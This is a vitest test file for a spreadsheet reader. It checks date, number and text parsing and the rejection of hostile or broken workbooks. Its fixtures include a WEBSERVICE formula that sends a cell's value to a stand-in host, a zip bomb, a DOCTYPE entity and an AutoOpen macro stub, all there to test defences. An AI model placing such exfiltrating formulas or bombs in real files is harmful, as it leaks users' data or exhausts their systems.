import { describe, expect, it } from 'vitest';
import { bytesOf, workbookOf, zipOf } from '../testing/zip-of.js';
import { readTable } from './read-table.js';
import { writeZip } from './write-zip.js';

const rowsOf = async (sheetData: string, extra: Readonly<Record<string, string>> = {}) => {
  const reading = readTable(await workbookOf(sheetData, extra));
  if (!reading.ok) throw new Error(reading.problem);
  return reading.table.rows;
};

const problemOf = (bytes: Uint8Array): string => {
  const reading = readTable(bytes);
  return reading.ok ? 'none' : reading.problem;
};

describe('a workbook', () => {
  it('gives the first sheet that is not hidden, with shared, rich and inline texts', async () => {
    const rows = await rowsOf(
      '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>' +
        '<row r="4"><c r="A4" t="s"><v>2</v></c><c r="C4" t="inlineStr"><is><t> Voirie </t></is></c></row>',
    );
    expect(rows).toEqual([
      { line: 1, cells: ['Code', 'Libellé'] },
      { line: 4, cells: ['00123', '', 'Voirie'] },
    ]);
  });

  it('tells days, padded codes, decimals and yes from no', async () => {
    const [row] = await rowsOf(
      '<row><c s="1"><v>46095</v></c><c s="3"><v>46095.75</v></c><c s="2"><v>123</v></c><c s="4"><v>1200.1000000000001</v></c>' +
        '<c><v>4500012345</v></c><c><v>1.5E-3</v></c><c t="b"><v>1</v></c><c s="1"><v>59</v></c><c><v>-0.1</v></c></row>',
    );
    expect(row?.cells).toEqual([
      '2026-03-14',
      '2026-03-14',
      '00123',
      '1200.1',
      '4500012345',
      '0.0015',
      'true',
      '1900-02-28',
      '-0.1',
    ]);
  });

  it('counts days from 1904 where the workbook does', async () => {
    const [row] = await rowsOf('<row><c s="1"><v>44633</v></c></row>', {
      'xl/workbook.xml':
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="urn:r"><workbookPr date1904="1"/><sheets><sheet name="a" r:id="rId2"/></sheets></workbook>',
    });
    expect(row?.cells).toEqual(['2026-03-14']);
  });

  it('never works out a formula: its last value is what counts', async () => {
    const [row] = await rowsOf(
      '<row><c><f>WEBSERVICE("http://a.invalid/"&amp;A1)</f><v>7</v></c><c t="str"><f>1+1</f><v>deux</v></c><c><f>1+1</f></c></row>',
    );
    expect(row?.cells).toEqual(['7', 'deux']);
  });

  it('does not look at macros', async () => {
    const rows = await rowsOf('<row><c><v>1</v></c></row>', { 'xl/vbaProject.bin': 'Sub AutoOpen()' });
    expect(rows).toEqual([{ line: 1, cells: ['1'] }]);
  });

  it('passes over a million empty rows, as sheets have that were once longer', async () => {
    const empty = '<row r="2" s="1"/>'.repeat(1_000_000);
    const rows = await rowsOf(`<row r="1"><c><v>1</v></c></row>${empty}`);
    expect(rows).toHaveLength(1);
  });
});

describe('a hostile or broken workbook', () => {
  it('is not unpacked beyond its limit, whatever it says of itself', async () => {
    const bomb = async function* () {
      const piece = ' '.repeat(1_000_000);
      yield '<worksheet><sheetData>';
      for (let index = 0; index < 160; index++) yield piece;
    };
    const bytes = await bytesOf(
      writeZip([
        { name: 'xl/workbook.xml', content: ['<workbook/>'] },
        { name: 'xl/worksheets/sheet1.xml', content: bomb() },
      ]),
    );
    expect(bytes.length).toBeLessThan(1_000_000);
    expect(problemOf(bytes)).toBe('too-large');
  });

  it('has no more rows, columns and characters than a table may have', async () => {
    const many = '<row><c><v>1</v></c></row>'.repeat(50_002);
    expect(problemOf(await workbookOf(many))).toBe('too-many-rows');
    expect(problemOf(await workbookOf('<row><c r="XFD1"><v>1</v></c></row>'))).toBe('too-many-columns');
    const long = `<row>${'<c t="s"><v>3</v></c>'.repeat(100)}</row>`.repeat(200);
    const text = 'x'.repeat(10_000);
    const strings = `<sst><si><t>0</t></si><si><t>1</t></si><si><t>2</t></si><si><t>${text}</t></si></sst>`;
    expect(problemOf(await workbookOf(long, { 'xl/sharedStrings.xml': strings }))).toBe('too-large');
  });

  it.each([
    ['a shared text that is not there', '<row><c t="s"><v>99</v></c></row>', 'broken'],
    ['a sheet that ends in the middle', '<row><c>', 'broken'],
    ['a document type', '<!DOCTYPE x [<!ENTITY a "b">]><row/>', 'broken'],
    ['nothing at all', '', 'empty'],
  ])('tells of %s', async (_, sheetData, problem) => {
    expect(problemOf(await workbookOf(sheetData))).toBe(problem);
  });

  it('is told when cut off, when another archive, when old or locked', async () => {
    const whole = await workbookOf('<row><c><v>1</v></c></row>');
    expect(problemOf(whole.subarray(0, whole.length - 30))).toBe('broken');
    expect(problemOf(await zipOf({ 'lettre.txt': 'Bonjour' }))).toBe('not-a-table');
    expect(problemOf(Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1]))).toBe('old-or-locked');
    expect(problemOf(Buffer.from('%PDF-1.7'))).toBe('not-a-table');
    expect(problemOf(Buffer.from('PK'))).toBe('broken');
  });

  it('is broken when any byte of its directory is, and never more than that', async () => {
    const whole = await workbookOf('<row><c><v>1</v></c></row>');
    for (let at = whole.length - 400; at < whole.length; at += 3) {
      const changed = Uint8Array.from(whole);
      changed[at] = 0xff;
      expect(typeof problemOf(changed)).toBe('string');
    }
  });

  it('is refused with two parts of one name, so that no two programs read two files', async () => {
    const bytes = await bytesOf(
      writeZip(
        ['<workbook/>', '<workbook></workbook>'].map((text) => ({
          name: 'xl/workbook.xml',
          content: [text],
        })),
      ),
    );
    expect(problemOf(bytes)).toBe('broken');
  });
});
